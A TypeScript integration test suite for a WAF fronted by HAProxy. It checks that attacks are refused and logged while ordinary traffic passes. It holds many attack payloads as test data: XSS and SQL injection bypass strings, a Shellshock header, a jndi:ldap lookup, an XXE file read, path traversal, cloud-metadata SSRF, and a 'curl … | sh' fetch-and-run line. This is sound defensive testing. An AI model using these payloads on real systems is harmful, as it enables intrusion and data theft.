import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { apiClient, ADMIN, rawRequest, settle, startAgent, startOrigin, viaProxy, type AgentProc, type ApiClient } from '../support/cluster.js';
import { freePort, startServe, waitFor } from '../support/processes.js';

// docs/architecture.md "Attack detection", through a real control plane, agent and HAProxy: a
// domain at level high inspects every part of the request (path, query, cookies, headers, body)
// and refuses attacks with 403 and an event naming where and what; ordinary traffic passes; a
// domain in detect mode logs and lets through; a waf_exception opens exactly one field.

const fixture = (name: string) =>
  readFileSync(new URL(`../../packages/proxy/test/fixtures/${name}`, import.meta.url), 'utf8')
    .split('\n')
    .map((l) => l.replace(/\r$/, '').replace(/^[ \t]+/, ''))
    .filter((l) => l !== '' && !l.startsWith('#'));

/** A line with a %XX escape is already encoded (fixtures/attacks.txt). */
const attackTarget = (payload: string) => '/search?q=' + (/%[0-9a-f]{2}/i.test(payload) ? payload : encodeURIComponent(payload));

interface Event {
  reason: string;
  domain: string;
  source_ip: string;
  method: string | null;
  path: string | null;
  location: string | null;
  matched: string | null;
  blocked: boolean;
}

const HOST = 'detect.waf.test';
const DETECT_HOST = 'watch.waf.test';

/** A raw HTTP/1.1 request to host with Content-Length computed from the body. */
function raw(method: string, target: string, headers: Record<string, string | string[]>, body = '', host = HOST): string {
  const lines = [`${method} ${target} HTTP/1.1`, `Host: ${host}`, 'Connection: close'];
  for (const [name, v] of Object.entries(headers)) for (const value of Array.isArray(v) ? v : [v]) lines.push(`${name}: ${value}`);
  if (body !== '' || method === 'POST') lines.push(`Content-Length: ${Buffer.byteLength(body)}`);
  return `${lines.join('\r\n')}\r\n\r\n${body}`;
}

const XSS = '<script>alert(1)</script>';
const SQLI = "1' OR '1'='1";
const form = { 'Content-Type': 'application/x-www-form-urlencoded' };
const json = { 'Content-Type': 'application/json' };
const multipart = { 'Content-Type': 'multipart/form-data; boundary=XX' };

/** One attack per request part: [what, raw request, reason, location]. */
const PARTS: [string, string, string, string][] = [
  ['path', raw('GET', '/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E', {}), 'xss_detected', 'path'],
  ['path traversal, double-encoded', raw('GET', '/static/..%252f..%252fetc/passwd', {}), 'traversal_detected', 'path'],
  ['query value', raw('GET', `/search?q=${encodeURIComponent(XSS)}`, {}), 'xss_detected', 'query:q'],
  ['query value split over a repeated name', raw('GET', '/items?id=1%20UNION/*&id=*/SELECT%201', {}), 'sqli_detected', 'query:id'],
  ['cookie', raw('GET', '/', { Cookie: `theme=dark; sid=${encodeURIComponent(SQLI)}` }), 'sqli_detected', 'cookie:sid'],
  ['Referer query string', raw('GET', '/', { Referer: `https://elsewhere.test/p?q=${encodeURIComponent(XSS)}` }), 'xss_detected', 'header:referer'],
  ['User-Agent', raw('GET', '/', { 'User-Agent': '() { :; }; /bin/bash -c id' }), 'cmdi_detected', 'header:user-agent'],
  ['X-Forwarded-Host', raw('GET', '/', { 'X-Forwarded-Host': `x.test"><img src=x onerror=alert(1)>` }), 'xss_detected', 'header:x-forwarded-host'],
  ['Origin', raw('GET', '/', { Origin: 'https://x.test/<svg/onload=alert(1)>' }), 'xss_detected', 'header:origin'],
  ['any other header', raw('GET', '/', { 'X-Api-Version': '${jndi:ldap://x.test/a}' }), 'injection_detected', 'header:x-api-version'],
  ['form body', raw('POST', '/comments', form, `title=hi&comment=${encodeURIComponent(XSS)}`), 'xss_detected', 'body:comment'],
  ['JSON body, nested', raw('POST', '/api/users', json, JSON.stringify({ user: { profile: [{ name: SQLI }] } })), 'sqli_detected', 'body:name'],
  ['multipart field', raw('POST', '/profile', multipart, `--XX\r\nContent-Disposition: form-data; name="bio"\r\n\r\n${XSS}\r\n--XX--\r\n`), 'xss_detected', 'body:bio'],
  [
    'multipart file name',
    raw('POST', '/upload', multipart, '--XX\r\nContent-Disposition: form-data; name="avatar"; filename="shell.phtml"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--XX--\r\n'),
    'upload_blocked',
    'body:avatar',
  ],
  ['XML body', raw('POST', '/xmlrpc', { 'Content-Type': 'application/xml' }, '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'), 'xxe_detected', 'body'],
  ['plain text body', raw('POST', '/notes', { 'Content-Type': 'text/plain' }, 'note; curl http://x.test/s | sh'), 'cmdi_detected', 'body'],
  ['query SSRF', raw('GET', `/fetch?url=${encodeURIComponent('http://169.254.169.254/latest/meta-data/')}`, {}), 'ssrf_detected', 'query:url'],
  // the budget's structure limits (docs/detection.md): refused whole, however harmless the values
  ['JSON body nested 600 deep', raw('POST', '/api/items', json, `${'{"a":'.repeat(600)}1${'}'.repeat(600)}`), 'body_too_complex', 'body'],
  ['form body of 1,001 fields', raw('POST', '/comments', form, Array.from({ length: 1001 }, (_, i) => `f${i}=v`).join('&')), 'body_too_complex', 'body'],
];

/** The bypasses of issue 8, each valid SQL or HTML that the old regexes let through. */
const BYPASSES = [
  'UNION/*x*/SELECT 1',
  '1 UNION%23x%0aSELECT 1',
  '1 UNION/*!50000SELECT*/ 1',
  '1 UNION DISTINCTROW SELECT 1',
  '1union select 1',
  '1e0union select 1',
  "1'/**/OR/**/1=1--",
  "1' or true-- ",
  "' || 1=1--",
  "' OR 1 IN (1)--",
  '1;/**/DROP/**/TABLE users',
  'INSERT/**/INTO users VALUES (1)',
  'UPDATE/**/users/**/SET admin=1',
  'DELETE/**/FROM users',
  'java\tscript:alert(1)',
  '&#106;avascript:alert(1)',
  '<img src=x onmouseover=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
];

describe('attack detection through real HAProxy (level high)', () => {
  let serve: Awaited<ReturnType<typeof startServe>>;
  let api: ApiClient;
  let agent: AgentProc;
  let origin: Awaited<ReturnType<typeof startOrigin>>;
  const get = (path: string, from: string) => viaProxy(agent.httpPort, HOST, path, {}, from);
  const events = async () => (await api.call('GET', '/api/waf/events')).body as Event[];

  before(async () => {
    serve = await startServe({ port: await freePort(), adminToken: ADMIN });
    api = await apiClient(serve.url);
    origin = await startOrigin('origin');
    const srv = await api.call('POST', '/api/servers', { name: 'edge-detect' });
    agent = await startAgent({ serverUrl: serve.url, token: srv.body.connectionToken });
    const origins = [{ ip: '127.0.0.1', port: origin.port }];
    const d = await api.call('POST', '/api/domains', { domain: HOST, origins, serverIds: [srv.body.id], sslEnabled: false, wafLevel: 'high' });
    assert.equal(d.status, 201, JSON.stringify(d.body));
    const watch = await api.call('POST', '/api/domains', { domain: DETECT_HOST, origins, serverIds: [srv.body.id], sslEnabled: false, wafLevel: 'high', wafMode: 'detect' });
    assert.equal(watch.status, 201, JSON.stringify(watch.body));
    const ex = await api.call('POST', '/api/waf', { rule_type: 'waf_exception', domain_id: d.body.id, value: JSON.stringify({ path: '/articles', location: 'body:content', detector: 'xss' }) });
    assert.equal(ex.status, 201, JSON.stringify(ex.body));
    await settle(api);
    await waitFor(async () => (await get('/', '127.0.30.1')).status === 200, 'the origin to be up');
  });
  after(async () => {
    await agent?.stop();
    await serve?.stop();
    await origin?.close();
  });

  test('every ordinary URL reaches the origin (none gets 403)', async () => {
    const urls = fixture('ordinary-urls.txt');
    assert.ok(urls.length >= 200);
    const refused: string[] = [];
    for (const url of urls) {
      const r = await get(url, '127.0.30.1');
      // The ACME challenge path belongs to the shield server's own responder: never blocked.
      if (url.startsWith('/.well-known/acme-challenge/')) {
        if (r.status !== 404 || r.text !== 'Not Found') refused.push(`${r.status} ${url} (expected the agent's responder)`);
      } else if (r.status !== 200 || JSON.parse(r.text).origin !== 'origin') refused.push(`${r.status} ${url}`);
    }
    assert.deepEqual(refused, [], `ordinary URLs not forwarded:\n  ${refused.join('\n  ')}`);
  });

  test('ordinary bodies reach the origin: forms, nested JSON up to 64 KB, multipart uploads, text', async () => {
    const big = JSON.stringify({
      items: Array.from({ length: 415 }, (_, i) => ({ id: i, name: `Item ${i} — O'Brien's "special" (v2.0)`, tags: ['a&b', 'c/d'], note: 'Price: 50% off; see https://shop.example/p?id=1&ref=home' })),
    });
    assert.ok(Buffer.byteLength(big) > 60_000 && Buffer.byteLength(big) < 65_536, `JSON of ${Buffer.byteLength(big)} bytes`);
    const bodies: [string, string][] = [
      ['form', raw('POST', '/signup', form, 'name=Se%C3%A1n+O%27Brien&email=sean%40example.com&about=I+like+C%2B%2B+%26+Rust%3B+50%25+of+the+time')],
      ['json', raw('POST', '/api/search', json, JSON.stringify({ q: 'select the union delegates', filters: { price: '< 30', tags: ['rock & roll', 'jazz | blues'] } }))],
      ['json 60 KB', raw('POST', '/api/bulk', json, big)],
      [
        'multipart',
        raw(
          'POST',
          '/upload',
          multipart,
          '--XX\r\nContent-Disposition: form-data; name="caption"\r\n\r\nSunset at the beach (2024)\r\n--XX\r\nContent-Disposition: form-data; name="photo"; filename="IMG_2041.jpg"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0 JFIF; <?xml ...\r\n--XX--\r\n',
        ),
      ],
      ['text', raw('POST', '/notes', { 'Content-Type': 'text/plain' }, "Don't forget: the meeting is at 10 (room #4) -- bring the slides & coffee.")],
    ];
    for (const [what, request] of bodies) {
      const r = await rawRequest(agent.httpPort, request, '127.0.30.1');
      assert.equal(r.status, 200, `${what}: ${r.status} ${r.text.slice(0, 200)}`);
      assert.equal(JSON.parse(r.text).origin, 'origin', what);
    }
  });

  test('every attack of the fixtures in the query string gets 403 from the WAF', async () => {
    const passed: string[] = [];
    const targets = [...fixture('attacks.txt').map(attackTarget), ...BYPASSES.map((b) => '/search?q=' + (/%[0-9a-f]{2}/i.test(b) ? b.replace(/ /g, '%20') : encodeURIComponent(b)))];
    for (const target of targets) {
      const attack = target;
      const r = await get(target, '127.0.30.2');
      if (r.status !== 403) passed.push(`${r.status} ${target}  (payload ${attack})`);
      else assert.match(r.text, /blocked by the web application firewall/i, target);
    }
    assert.deepEqual(passed, [], `attacks not refused:\n  ${passed.join('\n  ')}`);
  });

  for (const [what, request, reason, location] of PARTS) {
    test(`an attack in the ${what} is refused and recorded as ${reason} at ${location}`, async () => {
      const hits = origin.hits;
      const from = '127.0.31.' + (PARTS.findIndex((p) => p[0] === what) + 1);
      const r = await rawRequest(agent.httpPort, request, from);
      assert.equal(r.status, 403, `${what}: ${r.status} ${r.text.slice(0, 200)}`);
      assert.equal(origin.hits, hits, 'the origin never saw it');
      let seen: Event | undefined;
      await waitFor(async () => (seen = (await events()).find((e) => e.source_ip === from)) !== undefined, `the event of ${what}`, 15_000, 100);
      assert.equal(seen!.reason, reason);
      assert.equal(seen!.location, location);
      assert.equal(seen!.blocked, true);
      assert.equal(seen!.domain, HOST);
      assert.equal(seen!.method, request.slice(0, request.indexOf(' ')));
      assert.equal(seen!.path, request.split(' ')[1]!.split('?')[0]);
      assert.ok(seen!.matched && seen!.matched.length > 0 && seen!.matched.length <= 64, `matched: ${seen!.matched}`);
    });
  }

  test('bodies past the 64 KiB inspected reach the origin whole, with or without Expect: 100-continue', async () => {
    const big = 'x'.repeat(1024 * 1024);
    const upload = `--XX\r\nContent-Disposition: form-data; name="file"; filename="big.bin"\r\nContent-Type: application/octet-stream\r\n\r\n${big}\r\n--XX--\r\n`;
    const r = await rawRequest(agent.httpPort, raw('POST', '/upload', multipart, upload), '127.0.30.7');
    assert.equal(r.status, 200, r.text.slice(0, 200));
    // curl sends Expect: 100-continue and waits for the proxy's go-ahead before the body (run
    // asynchronously: the origin lives in this process)
    const curl = (body: string) =>
      new Promise<string>((resolve, reject) => {
        const child = execFile(
          'curl',
          [
            '-s',
            '-o',
            '/dev/null',
            '-w',
            '%{http_code}',
            '-m',
            '15',
            '--interface',
            '127.0.30.7',
            '-H',
            `Host: ${HOST}`,
            '-H',
            'Expect: 100-continue',
            '-H',
            'Content-Type: text/plain',
            '--data-binary',
            '@-',
            `http://127.0.0.1:${agent.httpPort}/notes`,
          ],
          (err, stdout) => (err ? reject(err) : resolve(stdout)),
        );
        child.stdin!.end(body);
      });
    assert.equal(await curl('hello '.repeat(40_000)), '200');
    assert.equal(await curl('hello '.repeat(1000) + XSS), '403');
  });

  test('a chunked body is inspected like any other', async () => {
    const payload = `comment=${encodeURIComponent(XSS)}`;
    const request = `POST /comments HTTP/1.1\r\nHost: ${HOST}\r\nConnection: close\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n${payload.length.toString(16)}\r\n${payload}\r\n0\r\n\r\n`;
    assert.equal((await rawRequest(agent.httpPort, request, '127.0.30.4')).status, 403);
  });

  test('detect mode: the attack reaches the origin and the event says it was not blocked', async () => {
    const from = '127.0.30.5';
    const r = await rawRequest(agent.httpPort, raw('GET', `/search?q=${encodeURIComponent(XSS)}`, {}, '', DETECT_HOST), from);
    assert.equal(r.status, 200, r.text);
    assert.equal(JSON.parse(r.text).origin, 'origin');
    let seen: Event | undefined;
    await waitFor(async () => (seen = (await events()).find((e) => e.source_ip === from)) !== undefined, 'the detect-mode event', 15_000, 100);
    assert.deepEqual([seen!.domain, seen!.reason, seen!.location, seen!.blocked], [DETECT_HOST, 'xss_detected', 'query:q', false]);
    assert.match(String((seen as Event & { request_id?: string }).request_id), /^[0-9a-f]{16}$/, 'the event has a request id, though no answer showed one');
  });

  test("another local process cannot inject events through the agent's syslog port", async () => {
    const { eventsPort } = JSON.parse(readFileSync(join(agent.dataDir, 'state.json'), 'utf8')) as { eventsPort: number };
    const forged = (token: string) =>
      `<134>Nov 22 07:20:00 haproxy[1]: rampart-waf ${token}${token ? ' ' : ''}${Math.floor(Date.now() / 1000)} 127.0.32.9 ${HOST} sqli_detected - block GET - /forged -`;
    const udp = createSocket('udp4');
    try {
      for (const token of ['', '0123456789abcdef0123456789abcdef']) {
        await new Promise<void>((resolve, reject) => udp.send(forged(token), eventsPort, '127.0.0.1', (err) => (err ? reject(err) : resolve())));
      }
    } finally {
      udp.close();
    }
    // A real event sent after the forged lines: once it is listed, they would have been too.
    const r = await rawRequest(agent.httpPort, raw('GET', `/search?q=${encodeURIComponent(XSS)}`, {}), '127.0.32.10');
    assert.equal(r.status, 403);
    await waitFor(async () => (await events()).some((e) => e.source_ip === '127.0.32.10'), 'the real event', 15_000, 100);
    assert.deepEqual(
      (await events()).filter((e) => e.source_ip === '127.0.32.9'),
      [],
    );
  });

  test('a waf_exception opens one field of one path for one detector, and nothing else', async () => {
    const body = (field: string, value: string) => `${field}=${encodeURIComponent(value)}`;
    const send = (path: string, b: string) => rawRequest(agent.httpPort, raw('POST', path, form, b), '127.0.30.6');
    assert.equal((await send('/articles/42/edit', body('content', '<p>Hello <b>world</b></p><script>hl()</script>'))).status, 200, 'the excepted field');
    assert.equal((await send('/articles/42/edit', body('title', XSS))).status, 403, 'another field of the same path');
    assert.equal((await send('/articles/42/edit', body('content', SQLI))).status, 403, 'another detector in the same field');
    assert.equal((await send('/comments', body('content', XSS))).status, 403, 'the same field on another path');
  });
});
